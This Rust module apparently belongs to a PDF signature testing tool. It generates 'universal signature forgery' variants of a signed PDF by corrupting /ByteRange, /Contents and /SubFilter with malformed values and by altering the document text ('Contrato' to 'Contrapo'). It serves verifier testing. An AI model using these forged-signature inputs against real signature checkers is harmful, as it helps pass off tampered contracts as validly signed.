//! Universal signature forgery: the signature is broken in the hope that no reader checks it.

use super::{Attack, Victim};

/// Overwrites the part between two marks with something of the same length.
fn overwrite(bytes: &[u8], from: &str, until: u8, with: &str) -> Vec<u8> {
    let start = bytes
        .windows(from.len())
        .rposition(|w| w == from.as_bytes())
        .unwrap();
    let length = bytes[start + from.len()..]
        .iter()
        .position(|b| *b == until)
        .unwrap()
        + from.len()
        + 1;
    assert!(with.len() <= length, "{with}");
    let mut out = bytes.to_vec();
    out[start..start + length].fill(b' ');
    out[start..start + with.len()].copy_from_slice(with.as_bytes());
    out
}

pub(crate) fn all(victim: &Victim) -> Vec<Attack> {
    let mut attacks = Vec::new();
    for with in [
        "",
        "/ByteRange null",
        "/ByteRange[]",
        "/ByteRange[0 0 0 0]",
        "/ByteRange[0 10 10 10]",
        "/ByteRange[0 -1 99 -5]",
        "/ByteRange[0 99999999 9 9]",
        "/ByteRange[0 10 (a) 10]",
        "/ByteRange 7",
        "/ByteRange[1 0 R]",
    ] {
        let bytes = overwrite(&victim.bytes, "/ByteRange[", b']', with);
        attacks.push(victim.attack(&format!("range {with:?}"), bytes));
    }
    for with in [
        "",
        "/Contents null",
        "/Contents<>",
        "/Contents<00>",
        "/Contents()",
        "/Contents<zz>",
        "/Contents 1 0 R",
        "/Contents/a",
    ] {
        let bytes = overwrite(&victim.bytes, "/Contents<", b'>', with);
        attacks.push(victim.attack(&format!("contents {with:?}"), bytes));
    }
    let zeros = "0".repeat(8192);
    attacks.push(victim.attack(
        "contents of zeros",
        overwrite(&victim.bytes, "/Contents<", b'>', &format!("/Contents<{zeros}>")),
    ));
    attacks.push(victim.attack(
        "another filter",
        overwrite(&victim.bytes, "/SubFilter", b'/', "/SubFilter"),
    ));
    let content = victim.bytes.windows(8).position(|w| w == b"Contrato").unwrap();
    let mut changed = victim.bytes.clone();
    changed[content..content + 8].copy_from_slice(b"Contrapo");
    attacks.push(victim.attack("changed text", changed));
    attacks
}
